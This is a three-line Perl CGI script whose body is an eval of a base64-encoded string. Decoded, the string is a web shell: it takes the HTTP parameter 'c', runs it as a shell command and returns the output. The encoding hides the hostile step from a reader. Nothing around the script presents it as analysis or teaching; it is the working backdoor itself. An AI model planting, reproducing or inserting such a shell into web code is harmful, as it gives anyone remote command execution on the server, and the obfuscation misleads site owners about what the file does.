#!/usr/bin/perl
use MIME::Base64;
eval(decode_base64('dXNlIENHSTskcT1DR0ktPm5ldztwcmludCAkcS0+aGVhZGVyO3ByaW50IGAkcS0+cGFyYW0oImMiKWA7'));
